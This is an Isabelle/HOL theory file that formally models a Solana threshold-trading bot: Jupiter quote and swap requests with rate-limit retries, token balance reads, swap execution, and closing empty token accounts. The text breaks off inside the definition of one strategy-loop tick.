theory Spec2Isabelle
  imports Main "HOL-Library.Word" "HOL-Library.Sublist"
begin

section \<open>Threshold strategy bot: a shallow embedding of \<open>src/index.ts\<close> and \<open>src/sell-and-close.ts\<close>\<close>

text \<open>
  The bot is a single cooperative loop. Every external call (HTTP \<open>fetch\<close>, chain RPC,
  timer, console) is an effect. The model threads the history of effects (an
  \<open>event list\<close>) through every function and lets the outside world answer each call as
  a function of the history so far; a JavaScript exception is a value \<open>Inl (Error msg)\<close>.
\<close>

subsection \<open>Strings and big integers\<close>

datatype js_error = Error (message: string)

type_synonym 'a result = "js_error + 'a"

fun startsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startsWith s [] = True"
| "startsWith [] (p # ps) = False"
| "startsWith (c # cs) (p # ps) = (c = p \<and> startsWith cs ps)"

definition endsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "endsWith s p = startsWith (rev s) (rev p)"

text \<open>\<open>String.prototype.includes\<close>: the pattern occurs as a contiguous substring.\<close>

fun str_includes :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_includes [] p = (p = [])"
| "str_includes (c # cs) p = (startsWith (c # cs) p \<or> str_includes cs p)"

definition isWhiteSpace :: "char \<Rightarrow> bool" where
  "isWhiteSpace c = (c \<in> set [CHR '' '', CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D])"

definition trim :: "string \<Rightarrow> string" where
  "trim s = rev (dropWhile isWhiteSpace (rev (dropWhile isWhiteSpace s)))"

text \<open>Decimal rendering of a number (\<open>toString()\<close> of a bigint or of an integral number).\<close>

definition digit_char :: "nat \<Rightarrow> char" where
  "digit_char d = ''0123456789'' ! (d mod 10)"

function toString_nat :: "nat \<Rightarrow> string" where
  "toString_nat n = (if n < 10 then [digit_char n] else toString_nat (n div 10) @ [digit_char (n mod 10)])"
  by pat_completeness auto
termination
  by (relation "measure id") auto

declare toString_nat.simps [simp del]

definition toString_int :: "int \<Rightarrow> string" where
  "toString_int i = (if i < 0 then CHR ''-'' # toString_nat (nat (- i)) else toString_nat (nat i))"

text \<open>
  \<open>BigInt(string)\<close>: surrounding white space is dropped, the empty string is \<open>0n\<close>, a
  decimal literal may carry a sign, a literal with a radix prefix may not; anything else
  raises a \<open>SyntaxError\<close>.
\<close>

definition digit_value :: "char \<Rightarrow> nat option" where
  "digit_value c =
     (let k = (of_char c :: nat) in
      if 48 \<le> k \<and> k \<le> 57 then Some (k - 48)
      else if 97 \<le> k \<and> k \<le> 122 then Some (k - 87)
      else if 65 \<le> k \<and> k \<le> 90 then Some (k - 55)
      else None)"

fun parse_digits :: "nat \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> nat option" where
  "parse_digits radix acc [] = Some acc"
| "parse_digits radix acc (c # cs) =
     (case digit_value c of
        None \<Rightarrow> None
      | Some d \<Rightarrow> if d < radix then parse_digits radix (acc * radix + d) cs else None)"

definition parse_literal :: "nat \<Rightarrow> string \<Rightarrow> int option" where
  "parse_literal radix ds = (if ds = [] then None else map_option int (parse_digits radix 0 ds))"

definition BigInt :: "string \<Rightarrow> int result" where
  "BigInt s =
     (let t = trim s;
          r = (if t = [] then Some 0
               else if startsWith t ''0x'' \<or> startsWith t ''0X'' then parse_literal 16 (drop 2 t)
               else if startsWith t ''0o'' \<or> startsWith t ''0O'' then parse_literal 8 (drop 2 t)
               else if startsWith t ''0b'' \<or> startsWith t ''0B'' then parse_literal 2 (drop 2 t)
               else if startsWith t ''-'' then map_option uminus (parse_literal 10 (drop 1 t))
               else if startsWith t ''+'' then parse_literal 10 (drop 1 t)
               else parse_literal 10 t)
      in case r of
           None \<Rightarrow> Inl (Error (''Cannot convert '' @ s @ '' to a BigInt''))
         | Some v \<Rightarrow> Inr v)"

subsection \<open>Price arithmetic\<close>

text \<open>
  \<open>pow10\<close> rejects a decimals count outside \<open>0..18\<close>. The count comes from
  \<open>parsePositiveIntEnv\<close>, so it is an integer.
\<close>

definition pow10 :: "int \<Rightarrow> int result" where
  "pow10 decimals =
     (if decimals < 0 \<or> decimals > 18 then Inl (Error (''Invalid decimals: '' @ toString_int decimals))
      else Inr (10 ^ nat decimals))"

text \<open>
  BigInt division truncates toward zero; \<open>bigint_div\<close> is that quotient (HOL's \<open>div\<close> on
  \<open>int\<close> rounds toward minus infinity). A zero divisor raises a \<open>RangeError\<close>.
\<close>

definition bigint_div :: "int \<Rightarrow> int \<Rightarrow> int result" where
  "bigint_div a b =
     (if b = 0 then Inl (Error ''Division by zero'')
      else Inr (sgn a * sgn b * (\<bar>a\<bar> div \<bar>b\<bar>)))"

definition lamportsPerTokenFromQuote :: "int \<Rightarrow> int \<Rightarrow> int \<Rightarrow> int result" where
  "lamportsPerTokenFromQuote inAmountLamports outAmountTokenUnits tokenDecimals =
     (if outAmountTokenUnits \<le> 0 then Inr 0
      else case pow10 tokenDecimals of
             Inl e \<Rightarrow> Inl e
           | Inr p \<Rightarrow> bigint_div (inAmountLamports * p) outAmountTokenUnits)"

definition lamportsPerTokenFromSellQuote :: "int \<Rightarrow> int \<Rightarrow> int \<Rightarrow> int result" where
  "lamportsPerTokenFromSellQuote inAmountTokenUnits outAmountLamports tokenDecimals =
     (if inAmountTokenUnits \<le> 0 then Inr 0
      else case pow10 tokenDecimals of
             Inl e \<Rightarrow> Inl e
           | Inr p \<Rightarrow> bigint_div (outAmountLamports * p) inAmountTokenUnits)"

subsection \<open>Data model\<close>

text \<open>\<open>JupiterQuoteResponse\<close>: the fields the bot reads; the rest is opaque.\<close>

record quote =
  inputMint :: string
  inAmount :: string
  outputMint :: string
  outAmount :: string
  slippageBps :: int
  priceImpactPct :: string
  routePlan :: string

text \<open>\<open>JupiterSwapResponse\<close>.\<close>

record swap_response =
  swapTransaction :: string
  lastValidBlockHeight :: nat

text \<open>The body of the swap-build request.\<close>

record swap_request =
  body_quoteResponse :: quote
  body_userPublicKey :: string
  body_dynamicSlippageMaxBps :: int
  body_maxLamports :: "nat option"

text \<open>The reply of \<open>getLatestBlockhash\<close>.\<close>

record latest_blockhash =
  lb_blockhash :: string
  lb_lastValidBlockHeight :: nat

text \<open>The reply of \<open>getAccountInfo\<close> for an existing account.\<close>

record account_info =
  ai_owner :: string
  ai_data :: "8 word list"

text \<open>
  An HTTP response as the code reads it: \<open>status\<close>, \<open>statusText\<close>, the body as
  \<open>response.text()\<close> gives it and the outcome of \<open>response.json()\<close> (which raises on
  a malformed body). \<open>fetch\<close> itself either rejects (a transport error) or resolves.
\<close>

record 'a response =
  status :: nat
  statusText :: string
  bodyText :: string
  bodyJson :: "'a result"

datatype 'a fetch_reply = Rejects js_error | Resolves "'a response"

definition response_ok :: "'a response \<Rightarrow> bool" where
  "response_ok r = (200 \<le> status r \<and> status r \<le> 299)"

datatype http_request =
    Get string "(string \<times> string) list"
  | PostSwap string swap_request
  | PostJson string "(string \<times> string) list"

datatype transaction =
    SwapTransaction string
  | CloseAccountTransaction string string string string string

datatype rpc_call =
    GetParsedTokenAccountsByOwner string string string
  | GetBalance string
  | GetAccount string
  | GetAccountInfo string
  | GetLatestBlockhash
  | SendRawTransaction transaction
  | ConfirmTransaction string string nat

datatype log_line =
    RateLimitedRetrying nat nat nat
  | FetchingQuote nat
  | RequestingSwap nat
  | SkipBuyInsufficient int int
  | BuyCheck int
  | TriggerBuy
  | BuyDone string
  | SellCheck int int
  | TriggerSell
  | SellDone string
  | AttemptingClose
  | CloseTxSent string
  | SkipClose
  | CloseAttemptFailed string
  | CreatingCloseTx
  | CloseConfirmed
  | CloseTxFailed string
  | CloseFailed string
  | LoopError string
  | BaseOverridden
  | StartingBot
  | FatalError string

datatype event =
    Sleep nat
  | Fetch http_request
  | Rpc rpc_call
  | Console log_line

text \<open>
  The outside world answers each call as a function of the history of effects up to and
  including the call. Nothing is assumed about the answers.
\<close>

record world =
  quoteApi :: "event list \<Rightarrow> quote fetch_reply"
  swapApi :: "event list \<Rightarrow> swap_response fetch_reply"
  tokenAccountsRpc :: "event list \<Rightarrow> string option list result"
  balanceRpc :: "event list \<Rightarrow> int result"
  getAccountRpc :: "event list \<Rightarrow> nat result"
  accountInfoRpc :: "event list \<Rightarrow> account_info option result"
  latestBlockhashRpc :: "event list \<Rightarrow> latest_blockhash result"
  sendRpc :: "event list \<Rightarrow> string result"
  confirmRpc :: "event list \<Rightarrow> string option result"
  elapsedMs :: "event list \<Rightarrow> nat"
  deserializeAndSign :: "string \<Rightarrow> js_error option"
  associatedTokenAddress :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string"
  validPublicKey :: "string \<Rightarrow> bool"
  keypairFromSecret :: "string \<Rightarrow> string result"
  integerOfNumber :: "string \<Rightarrow> int option"

text \<open>
  The fields of \<open>world\<close>, each a collaborator outside \<open>src/\<close>:
  \<^item> \<open>quoteApi\<close>, \<open>swapApi\<close>: what \<open>fetch\<close> does on the quote and swap-build endpoints;
  \<^item> \<open>tokenAccountsRpc\<close>: \<open>getParsedTokenAccountsByOwner\<close>, each account given by its
    \<open>parsed.info.tokenAmount.amount\<close> (\<open>None\<close> when a link of that chain is undefined);
  \<^item> \<open>balanceRpc\<close>: \<open>getBalance\<close>; \<open>getAccountRpc\<close>: \<open>getAccount\<close> of the token library,
    giving the amount held or raising (the account is missing or not a token account);
  \<^item> \<open>accountInfoRpc\<close>: \<open>getAccountInfo\<close>, \<open>None\<close> for \<open>null\<close>;
  \<^item> \<open>latestBlockhashRpc\<close>, \<open>sendRpc\<close> (\<open>sendRawTransaction\<close>, giving the signature),
    \<open>confirmRpc\<close> (\<open>confirmTransaction\<close>, giving \<open>value.err\<close>);
  \<^item> \<open>elapsedMs\<close>: the wall-clock time since the tick started;
  \<^item> \<open>deserializeAndSign\<close>: the error raised, if any, when the base64 payload is
    deserialized and signed with the wallet key;
  \<^item> \<open>associatedTokenAddress mint owner program\<close>: the derived token-account address;
  \<^item> \<open>validPublicKey\<close>: whether \<open>new PublicKey\<close> accepts the string;
  \<^item> \<open>keypairFromSecret\<close>: \<open>bs58.decode\<close> then \<open>Keypair.fromSecretKey\<close>, giving the
    public key of the wallet or raising;
  \<^item> \<open>integerOfNumber raw\<close>: \<open>Some n\<close> when \<open>Number(raw)\<close> is the finite integer \<open>n\<close>.
\<close>

definition TOKEN_PROGRAM_ID :: string where
  "TOKEN_PROGRAM_ID = ''TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA''"

definition TOKEN_2022_PROGRAM_ID :: string where
  "TOKEN_2022_PROGRAM_ID = ''TokenzQdBNbLqP5VEhdkAS6EPFLC1PHnBqCXEpPxuEb''"

definition JUPITER_QUOTE_API :: string where
  "JUPITER_QUOTE_API = ''https://lite-api.jup.ag/swap/v1/quote''"

definition JUPITER_SWAP_API :: string where
  "JUPITER_SWAP_API = ''https://lite-api.jup.ag/swap/v1/swap''"

definition WSOL_MINT :: string where
  "WSOL_MINT = ''So11111111111111111111111111111111111111112''"

subsection \<open>Quote and swap-build requests with rate-limit backoff\<close>

text \<open>\<open>Math.min(1000 * Math.pow(2, attempt - 1), 10000)\<close>, for \<open>attempt > 0\<close>.\<close>

definition delayMs :: "nat \<Rightarrow> nat" where
  "delayMs attempt = min (1000 * 2 ^ (attempt - 1)) 10000"

datatype 'a step = Return 'a | Continue | Throw js_error

text \<open>
  The \<open>catch\<close> block of the retry loop: an error whose message is non-empty and mentions
  neither \<open>429\<close> nor \<open>Rate limit\<close> is rethrown at once; any other error is rethrown on
  the last attempt and swallowed (the loop goes on) before it.
\<close>

definition on_catch :: "nat \<Rightarrow> nat \<Rightarrow> js_error \<Rightarrow> 'a step" where
  "on_catch maxRetries attempt e =
     (if message e \<noteq> [] \<and> \<not> str_includes (message e) ''429''
         \<and> \<not> str_includes (message e) ''Rate limit''
      then Throw e
      else if attempt = maxRetries then Throw e
      else Continue)"

definition rate_limit_error :: "nat \<Rightarrow> js_error" where
  "rate_limit_error maxRetries =
     Error (''Rate limit exceeded after '' @ toString_nat (maxRetries + 1)
            @ '' attempts. Please wait and try again later.'')"

definition remote_error :: "string \<Rightarrow> 'a response \<Rightarrow> js_error" where
  "remote_error what r =
     Error (what @ '': '' @ toString_nat (status r) @ '' '' @ statusText r @ '' - '' @ bodyText r)"

text \<open>The \<open>try\<close> block of one attempt, given what \<open>fetch\<close> did.\<close>

definition attempt_step :: "string \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> 'a fetch_reply \<Rightarrow> 'a step" where
  "attempt_step what maxRetries attempt reply =
     (case reply of
        Rejects e \<Rightarrow> on_catch maxRetries attempt e
      | Resolves r \<Rightarrow>
          if status r = 429 then
            (if attempt < maxRetries then Continue
             else on_catch maxRetries attempt (rate_limit_error maxRetries))
          else if \<not> response_ok r then on_catch maxRetries attempt (remote_error what r)
          else (case bodyJson r of
                  Inl e \<Rightarrow> on_catch maxRetries attempt e
                | Inr v \<Rightarrow> Return v))"

definition before_attempt :: "nat \<Rightarrow> nat \<Rightarrow> event list" where
  "before_attempt maxRetries attempt =
     (if attempt > 0
      then [Console (RateLimitedRetrying (delayMs attempt) (attempt + 1) (maxRetries + 1)),
            Sleep (delayMs attempt)]
      else [])"

function getQuote_loop ::
  "world \<Rightarrow> http_request \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> event list \<Rightarrow> event list \<times> quote result" where
  "getQuote_loop w req maxRetries attempt h =
     (if attempt \<le> maxRetries then
        (let h' = h @ before_attempt maxRetries attempt @ [Console (FetchingQuote attempt), Fetch req]
         in case attempt_step ''Failed to get quote'' maxRetries attempt (quoteApi w h') of
              Return q \<Rightarrow> (h', Inr q)
            | Throw e \<Rightarrow> (h', Inl e)
            | Continue \<Rightarrow> getQuote_loop w req maxRetries (attempt + 1) h')
      else (h, Inl (Error ''Failed to get quote after all retries'')))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(w, req, maxRetries, attempt, h). Suc maxRetries - attempt)") auto

declare getQuote_loop.simps [simp del]

text \<open>
  A JavaScript number that came out of \<open>parseInt\<close>: an integer, or \<open>NaN\<close> (\<open>None\<close>).
\<close>

type_synonym js_number = "int option"

definition toString_number :: "js_number \<Rightarrow> string" where
  "toString_number n = (case n of None \<Rightarrow> ''NaN'' | Some i \<Rightarrow> toString_int i)"

definition quote_request :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> js_number \<Rightarrow> http_request" where
  "quote_request inMint outMint amount slippage =
     Get JUPITER_QUOTE_API
       [(''inputMint'', inMint), (''outputMint'', outMint), (''amount'', amount),
        (''slippageBps'', toString_number slippage), (''onlyDirectRoutes'', ''false''),
        (''asLegacyTransaction'', ''false''), (''restrictIntermediateTokens'', ''true'')]"

definition getQuote ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> js_number \<Rightarrow> nat \<Rightarrow> event list \<Rightarrow> event list \<times> quote result" where
  "getQuote w inMint outMint amount slippage maxRetries h =
     getQuote_loop w (quote_request inMint outMint amount slippage) maxRetries 0 h"

function getSwapTransaction_loop ::
  "world \<Rightarrow> http_request \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> event list \<Rightarrow> event list \<times> swap_response result" where
  "getSwapTransaction_loop w req maxRetries attempt h =
     (if attempt \<le> maxRetries then
        (let h' = h @ before_attempt maxRetries attempt @ [Console (RequestingSwap attempt), Fetch req]
         in case attempt_step ''Failed to get swap transaction'' maxRetries attempt (swapApi w h') of
              Return r \<Rightarrow> (h', Inr r)
            | Throw e \<Rightarrow> (h', Inl e)
            | Continue \<Rightarrow> getSwapTransaction_loop w req maxRetries (attempt + 1) h')
      else (h, Inl (Error ''Failed to get swap transaction after all retries'')))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(w, req, maxRetries, attempt, h). Suc maxRetries - attempt)") auto

declare getSwapTransaction_loop.simps [simp del]

text \<open>
  The priority-fee block of the request is spread in only when \<open>priorityFeeLamports\<close> is
  truthy: an absent or zero fee leaves it out.
\<close>

definition swap_request_of :: "quote \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> swap_request" where
  "swap_request_of q payer priorityFeeLamports =
     \<lparr> body_quoteResponse = q, body_userPublicKey = payer,
       body_dynamicSlippageMaxBps = slippageBps q,
       body_maxLamports = (case priorityFeeLamports of
                        None \<Rightarrow> None
                      | Some fee \<Rightarrow> if fee = 0 then None else Some fee) \<rparr>"

definition getSwapTransaction ::
  "world \<Rightarrow> quote \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> nat \<Rightarrow> event list \<Rightarrow> event list \<times> swap_response result" where
  "getSwapTransaction w q payer priorityFeeLamports maxRetries h =
     getSwapTransaction_loop w (PostSwap JUPITER_SWAP_API (swap_request_of q payer priorityFeeLamports))
       maxRetries 0 h"

subsection \<open>PositionTracker: \<open>getTokenBalanceByMint\<close>\<close>

text \<open>
  The loop over the accounts of one program, \<open>running\<close> being the variable \<open>total\<close> of
  the source: an absent or empty amount is skipped.
\<close>

fun add_amounts :: "int \<Rightarrow> string option list \<Rightarrow> int result" where
  "add_amounts running [] = Inr running"
| "add_amounts running (acc # accs) =
     (case acc of
        None \<Rightarrow> add_amounts running accs
      | Some amountStr \<Rightarrow>
          if amountStr = [] then add_amounts running accs
          else (case BigInt amountStr of
                  Inl e \<Rightarrow> Inl e
                | Inr v \<Rightarrow> add_amounts (running + v) accs))"

definition addFromProgram ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> int \<Rightarrow> event list \<Rightarrow> event list \<times> int result" where
  "addFromProgram w owner mint programId running h =
     (let h' = h @ [Rpc (GetParsedTokenAccountsByOwner owner mint programId)]
      in case tokenAccountsRpc w h' of
           Inl e \<Rightarrow> (h', Inl e)
         | Inr accounts \<Rightarrow> (h', add_amounts running accounts))"

definition getTokenBalanceByMint ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> event list \<Rightarrow> event list \<times> int result" where
  "getTokenBalanceByMint w owner mint h =
     (case addFromProgram w owner mint TOKEN_PROGRAM_ID 0 h of
        (h1, Inl e) \<Rightarrow> (h1, Inl e)
      | (h1, Inr running) \<Rightarrow> addFromProgram w owner mint TOKEN_2022_PROGRAM_ID running h1)"

subsection \<open>SwapExecutor: \<open>executeSwapOnce\<close>\<close>

text \<open>
  Quote, swap-build, deserialize and sign, one \<open>sendRawTransaction\<close>, then
  \<open>getLatestBlockhash\<close> and one \<open>confirmTransaction\<close> on the blockhash just fetched.
  \<open>SwapTransaction p\<close> stands for the payload \<open>p\<close> signed with the wallet key.
\<close>

definition executeSwapOnce ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> js_number \<Rightarrow> nat \<Rightarrow> event list
     \<Rightarrow> event list \<times> (string \<times> quote) result" where
  "executeSwapOnce w payer inMint outMint amount slippage priorityFeeLamports h =
     (case getQuote w inMint outMint amount slippage 3 h of
        (h1, Inl e) \<Rightarrow> (h1, Inl e)
      | (h1, Inr quoteResponse) \<Rightarrow>
     (case getSwapTransaction w quoteResponse payer (Some priorityFeeLamports) 3 h1 of
        (h2, Inl e) \<Rightarrow> (h2, Inl e)
      | (h2, Inr swapResponse) \<Rightarrow>
     (case deserializeAndSign w (swapTransaction swapResponse) of
        Some e \<Rightarrow> (h2, Inl e)
      | None \<Rightarrow>
     (let h3 = h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction swapResponse)))]
      in case sendRpc w h3 of
        Inl e \<Rightarrow> (h3, Inl e)
      | Inr signature \<Rightarrow>
     (let h4 = h3 @ [Rpc GetLatestBlockhash]
      in case latestBlockhashRpc w h4 of
        Inl e \<Rightarrow> (h4, Inl e)
      | Inr latestBlockhash \<Rightarrow>
     (let h5 = h4 @ [Rpc (ConfirmTransaction signature (lb_blockhash latestBlockhash)
                           (lb_lastValidBlockHeight latestBlockhash))]
      in case confirmRpc w h5 of
        Inl e \<Rightarrow> (h5, Inl e)
      | Inr (Some err) \<Rightarrow> (h5, Inl (Error (''Transaction failed: '' @ err)))
      | Inr None \<Rightarrow> (h5, Inr (signature, quoteResponse))))))))"

subsection \<open>AccountJanitor: \<open>closeATA\<close> of \<open>sell-and-close.ts\<close>\<close>

text \<open>\<open>readBigUInt64LE\<close> on the eight bytes at offset 64 of the account data.\<close>

definition readBigUInt64LE :: "8 word list \<Rightarrow> nat" where
  "readBigUInt64LE bytes = foldr (\<lambda>b acc. unat b + 256 * acc) bytes 0"

definition token2022_balance :: "8 word list \<Rightarrow> nat" where
  "token2022_balance data = readBigUInt64LE (take 8 (drop 64 data))"

text \<open>
  The part of \<open>closeATA\<close> after the balance check: build the close instruction, send it,
  confirm it on the blockhash it was built with. An exception here reaches the outer
  \<open>catch\<close> of \<open>closeATA\<close>.
\<close>

definition close_and_confirm ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> event list \<Rightarrow> event list \<times> bool result" where
  "close_and_confirm w tokenAccount tokenProgramId owner h =
     (let h1 = h @ [Console CreatingCloseTx, Rpc GetLatestBlockhash]
      in case latestBlockhashRpc w h1 of
        Inl e \<Rightarrow> (h1, Inl e)
      | Inr lb \<Rightarrow>
     (let h2 = h1 @ [Rpc (SendRawTransaction
                       (CloseAccountTransaction tokenAccount owner owner tokenProgramId (lb_blockhash lb)))]
      in case sendRpc w h2 of
        Inl e \<Rightarrow> (h2, Inl e)
      | Inr closeSignature \<Rightarrow>
     (let h3 = h2 @ [Console (CloseTxSent closeSignature),
                     Rpc (ConfirmTransaction closeSignature (lb_blockhash lb) (lb_lastValidBlockHeight lb))]
      in case confirmRpc w h3 of
        Inl e \<Rightarrow> (h3, Inl e)
      | Inr (Some err) \<Rightarrow> (h3 @ [Console (CloseTxFailed err)], Inr False)
      | Inr None \<Rightarrow> (h3 @ [Console CloseConfirmed], Inr True))))"

text \<open>The body of the outer \<open>try\<close> of \<open>closeATA\<close>.\<close>

definition closeATA_try ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> event list \<Rightarrow> event list \<times> bool result" where
  "closeATA_try w tokenAccount tokenProgramId owner h =
     (if tokenProgramId = TOKEN_PROGRAM_ID then
        (let h1 = h @ [Rpc (GetAccount tokenAccount)]
         in case getAccountRpc w h1 of
              Inl e \<Rightarrow> (h1, Inr False)
            | Inr amount \<Rightarrow>
                if amount = 0 then close_and_confirm w tokenAccount tokenProgramId owner h1
                else (h1, Inr False))
      else
        (let h1 = h @ [Rpc (GetAccountInfo tokenAccount)]
         in case accountInfoRpc w h1 of
              Inl e \<Rightarrow> (h1, Inl e)
            | Inr None \<Rightarrow> (h1, Inr False)
            | Inr (Some accountInfo) \<Rightarrow>
                if length (ai_data accountInfo) \<ge> 72 \<and> token2022_balance (ai_data accountInfo) = 0
                then close_and_confirm w tokenAccount tokenProgramId owner h1
                else (h1, Inr False)))"

definition closeATA ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> event list \<Rightarrow> event list \<times> bool result" where
  "closeATA w tokenAccount tokenProgramId owner h =
     (case closeATA_try w tokenAccount tokenProgramId owner h of
        (h', Inl e) \<Rightarrow> (h' @ [Console (CloseFailed (message e))], Inr False)
      | (h', Inr closed) \<Rightarrow> (h', Inr closed))"

subsection \<open>AccountJanitor: the cleanup inside the strategy loop\<close>

record config =
  cfg_quoteMint :: string
  cfg_wallet :: string
  cfg_tokenDecimals :: int
  cfg_inAmountLamports :: int
  cfg_slippageBps :: js_number
  cfg_intervalMs :: int
  cfg_priorityFeeLamports :: nat
  cfg_buyBelowLamportsPerToken :: int
  cfg_sellAboveLamportsPerToken :: int

text \<open>The \<open>if (shouldClose) ... else ...\<close> at the end of the cleanup: the close is sent, not confirmed.\<close>

definition send_close ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> event list \<Rightarrow> event list \<times> unit result" where
  "send_close w owner inputTokenAccount tokenProgramId shouldClose h =
     (if shouldClose then
        (let h1 = h @ [Rpc GetLatestBlockhash]
         in case latestBlockhashRpc w h1 of
           Inl e \<Rightarrow> (h1, Inl e)
         | Inr lb \<Rightarrow>
        (let h2 = h1 @ [Rpc (SendRawTransaction
                          (CloseAccountTransaction inputTokenAccount owner owner tokenProgramId
                             (lb_blockhash lb)))]
         in case sendRpc w h2 of
           Inl e \<Rightarrow> (h2, Inl e)
         | Inr closeSignature \<Rightarrow> (h2 @ [Console (CloseTxSent closeSignature)], Inr ())))
      else (h @ [Console SkipClose], Inr ()))"

definition cleanup_try :: "world \<Rightarrow> config \<Rightarrow> event list \<Rightarrow> event list \<times> unit result" where
  "cleanup_try w c h =
     (let owner = cfg_wallet c;
          standardAccount = associatedTokenAddress w (cfg_quoteMint c) owner TOKEN_PROGRAM_ID;
          h1 = h @ [Rpc (GetAccount standardAccount)]
      in case getAccountRpc w h1 of
           Inr amount \<Rightarrow> send_close w owner standardAccount TOKEN_PROGRAM_ID (amount = 0) h1
         | Inl e \<Rightarrow>
             (let account2022 = associatedTokenAddress w (cfg_quoteMint c) owner TOKEN_2022_PROGRAM_ID;
                  h2 = h1 @ [Rpc (GetAccountInfo account2022)]
              in case accountInfoRpc w h2 of
                   Inl e' \<Rightarrow> (h2, Inl e')
                 | Inr info \<Rightarrow>
                     (let shouldClose =
                            (case info of
                               None \<Rightarrow> False
                             | Some accountInfo \<Rightarrow>
                                 ai_owner accountInfo = TOKEN_2022_PROGRAM_ID
                                 \<and> length (ai_data accountInfo) \<ge> 72
                                 \<and> token2022_balance (ai_data accountInfo) = 0)
                      in send_close w owner account2022
                           (if shouldClose then TOKEN_2022_PROGRAM_ID else TOKEN_PROGRAM_ID)
                           shouldClose h2)))"

definition cleanup :: "world \<Rightarrow> config \<Rightarrow> event list \<Rightarrow> event list" where
  "cleanup w c h =
     (case cleanup_try w c (h @ [Console AttemptingClose]) of
        (h', Inl e) \<Rightarrow> h' @ [Console (CloseAttemptFailed (message e))]
      | (h', Inr u) \<Rightarrow> h')"

subsection \<open>StrategyEngine: one tick of the loop in \<open>runStrategyBot\<close>\<close>

definition buy_path :: "world \<Rightarrow> config \<Rightarrow> event list \<Rightarrow> event list \<times> unit result" where
  "buy_path w c h =
     (let h1 = h @ [Rpc (GetBalance (cfg_wallet c))]
      in case balanceRpc w h1 of
        Inl e \<Rightarrow> (h1, Inl e)
      | Inr solBalance \<Rightarrow>
          if solBalance < cfg_inAmountLamports c
          then (h1 @ [Console (SkipBuyInsufficient solBalance (cfg_inAmountLamports c))], Inr ())
          else
     (case getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
             (cfg_slippageBps c) 3 h1 of
        (h2, Inl e) \<Rightarrow> (h2, Inl e)
      | (h2, Inr buyQuote) \<Rightarrow>
     (case BigInt (inAmount buyQuote) of
        Inl e \<Rightarrow> (h2, Inl e)
      | Inr quoteIn \<Rightarrow>
     (case BigInt (outAmount buyQuote) of
        Inl e \<Rightarrow> (h2, Inl e)
      | Inr quoteOut \<Rightarrow>
     (case lamportsPerTokenFromQuote quoteIn quoteOut (cfg_tokenDecimals c) of
        Inl e \<Rightarrow> (h2, Inl e)
      | Inr priceLamportsPerToken \<Rightarrow>
     (case pow10 (cfg_tokenDecimals c) of
        Inl e \<Rightarrow> (h2, Inl e)
      | Inr scale \<Rightarrow>
     (let h3 = h2 @ [Console (BuyCheck priceLamportsPerToken)]
      in if priceLamportsPerToken \<le> cfg_buyBelowLamportsPerToken c then
           (case executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
                   (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                   (cfg_priorityFeeLamports c) (h3 @ [Console TriggerBuy]) of
              (h4, Inl e) \<Rightarrow> (h4, Inl e)
            | (h4, Inr (signature, q)) \<Rightarrow> (h4 @ [Console (BuyDone signature)], Inr ()))
         else (h3, Inr ()))))))))"

definition sell_path :: "world \<Rightarrow> config \<Rightarrow> int \<Rightarrow> event list \<Rightarrow> event list \<times> unit result" where
  "sell_path w c tokenBalanceUnits h =
     (case getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
             (cfg_slippageBps c) 3 h of
        (h1, Inl e) \<Rightarrow> (h1, Inl e)
      | (h1, Inr sellQuote) \<Rightarrow>
     (case BigInt (inAmount sellQuote) of
        Inl e \<Rightarrow> (h1, Inl e)
      | Inr quoteIn \<Rightarrow>
     (case BigInt (outAmount sellQuote) of
        Inl e \<Rightarrow> (h1, Inl e)
      | Inr quoteOut \<Rightarrow>
     (case lamportsPerTokenFromSellQuote quoteIn quoteOut (cfg_tokenDecimals c) of
        Inl e \<Rightarrow> (h1, Inl e)
      | Inr priceLamportsPerToken \<Rightarrow>
     (let h2 = h1 @ [Console (SellCheck tokenBalanceUnits priceLamportsPerToken)]
      in if priceLamportsPerToken \<ge> cfg_sellAboveLamportsPerToken c then
           (case executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                   (toString_int tokenBalanceUnits) (cfg_slippageBps c)
                   (cfg_priorityFeeLamports c) (h2 @ [Console TriggerSell]) of
              (h3, Inl e) \<Rightarrow> (h3, Inl e)
            | (h3, Inr (signature, q)) \<Rightarrow> (cleanup w c (h3 @ [Console (SellDone signature)]), Inr ()))
         else (h2, Inr ()))))))"

text \<open>The inner \<open>try\<close> of the loop body: the position is read from the chain, then one path runs.\<close>

definition tick_try :: "world \<Rightarrow> config \<Rightarrow> event list \<Rightarrow> event list \<times> unit result" where
  "tick_try w c h =
     (case getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h of
        (h1, Inl e) \<Rightarrow> (h1, Inl e)
      | (h1, Inr tokenBalanceUnits) \<Rightarrow>
